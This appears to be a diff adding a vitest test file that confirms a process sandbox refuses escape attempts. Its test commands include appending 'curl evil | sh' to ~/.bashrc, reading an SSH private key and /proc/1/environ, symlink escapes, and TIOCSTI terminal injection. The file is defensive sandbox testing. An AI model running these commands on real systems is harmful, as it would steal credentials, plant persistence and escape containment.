@@ -1,0 +1,123 @@
+// The escape table of issue 29 through `procmux mcp --sandbox`: each attempt is refused on the
+// host (checked there) and the reply ends with what was refused; the allowed rows work.
+import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { assertNoLeakedProcesses } from '@procmux/test-utils';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { endStateDirs } from '../mcp/server.js';
+import { hostHttp, type SandboxedServer, sessionId, startSandboxed } from './sandbox-server.js';
+
+const linux = process.platform === 'linux';
+let server: SandboxedServer;
+let forbidden: Awaited<ReturnType<typeof hostHttp>>;
+let allowed: Awaited<ReturnType<typeof hostHttp>>;
+
+beforeAll(async () => {
+  if (!linux) return;
+  forbidden = await hostHttp('host secret page');
+  allowed = await hostHttp('allowed page 5c1e');
+  server = await startSandboxed(['--sandbox-allow-domain', `localhost:${allowed.port}`]);
+});
+
+afterAll(async () => {
+  if (!linux) return;
+  await server.close();
+  await forbidden.close();
+  await allowed.close();
+  endStateDirs();
+  await assertNoLeakedProcesses();
+});
+
+const oneShot = (command: string) => server.call('exec', { command });
+const lastLines = (text: string) => text.trimEnd().split('\n').slice(-3).join('\n');
+
+describe.skipIf(!linux)('escape table through procmux mcp --sandbox', () => {
+  it('refuses a write to a file under /tmp, and says so', async () => {
+    const target = join(server.root, 'outside.txt');
+    const r = await oneShot(`echo owned > ${target}`);
+    expect(existsSync(target)).toBe(false);
+    expect(lastLines(r.text)).toContain(`sandbox: write to ${target} refused`);
+  });
+
+  it('refuses a write to ~/.bashrc', async () => {
+    const r = await oneShot('echo "curl evil | sh" >> ~/.bashrc');
+    expect(readFileSync(join(server.home, '.bashrc'), 'utf8')).toBe('# original\n');
+    expect(lastLines(r.text)).toContain(`sandbox: write to ${join(server.home, '.bashrc')} refused`);
+  });
+
+  it('refuses to read a key in ~/.ssh', async () => {
+    const r = await oneShot('cat ~/.ssh/id_ed25519');
+    expect(r.text).not.toContain('FAKE-PRIVATE-KEY');
+    expect(lastLines(r.text)).toContain(
+      `sandbox: read of ${join(server.home, '.ssh', 'id_ed25519')} refused`,
+    );
+  });
+
+  it("refuses to read procmux's own state dir", async () => {
+    const r = await oneShot(`ls ${server.stateDir}`);
+    expect(lastLines(r.text)).toContain(`sandbox: read of ${server.stateDir} refused`);
+  });
+
+  it("refuses HTTP to a server on the host's 127.0.0.1", async () => {
+    const r = await oneShot(
+      `python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:${forbidden.port}/').read())"`,
+    );
+    expect(r.text).not.toContain('host secret page');
+    expect(forbidden.requests()).toBe(0);
+    expect(lastLines(r.text)).toContain(`sandbox: connection to 127.0.0.1:${forbidden.port} refused`);
+  });
+
+  it("refuses to signal the test's own pid", async () => {
+    const r = await oneShot(`kill -TERM ${process.pid}`);
+    expect(lastLines(r.text)).toContain(`sandbox: signal to pid ${process.pid} refused`);
+  });
+
+  it('refuses a write through a workspace symlink pointing outside', async () => {
+    const outside = join(server.root, 'outside-dir');
+    mkdirSync(outside);
+    writeFileSync(join(outside, 'target'), 'untouched\n');
+    symlinkSync(join(outside, 'target'), join(server.workspace, 'link'));
+    const r = await oneShot('echo owned > link');
+    expect(readFileSync(join(outside, 'target'), 'utf8')).toBe('untouched\n');
+    expect(lastLines(r.text)).toContain(
+      `sandbox: write to ${join(server.workspace, 'link')} (-> ${join(outside, 'target')}) refused`,
+    );
+  });
+
+  it('refuses TIOCSTI into its own terminal', async () => {
+    const started = await server.call('exec', {
+      mode: 'session',
+      command: `python3 -c "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('in' + 'jected')"`,
+    });
+    const done = await server.call('process', {
+      action: 'wait_for',
+      session_id: sessionId(started.text),
+      exit: true,
+    });
+    const all = `${started.text}\n${done.text}`;
+    expect(all).toContain('Operation not permitted');
+    expect(all).not.toContain('injected');
+    expect(all).toContain('sandbox: terminal input injection (TIOCSTI) refused');
+  });
+
+  it("refuses /proc/1/environ (the host's pid 1 is not there, the sandbox's own is hidden)", async () => {
+    const r = await oneShot('cat /proc/1/environ');
+    expect(r.text).not.toContain('HOME=');
+    expect(lastLines(r.text)).toContain('sandbox: read of /proc/1/environ refused');
+  });
+
+  it('allows writing and reading in the workspace, and reports nothing', async () => {
+    const r = await oneShot('echo kept > notes.txt && cat notes.txt');
+    expect(r.text).toBe('kept\n\nProcess exited with code 0.');
+    expect(readFileSync(join(server.workspace, 'notes.txt'), 'utf8')).toBe('kept\n');
+  });
+
+  it('allows a domain on the allow list, through the proxy', async () => {
+    const r = await oneShot(
+      `python3 -c "import urllib.request as u; print(u.urlopen('http://localhost:${allowed.port}/').read().decode())"`,
+    );
+    expect(r.text).toContain('allowed page 5c1e');
+    expect(r.text).not.toContain('sandbox:');
+    expect(allowed.requests()).toBe(1);
+  });
+});
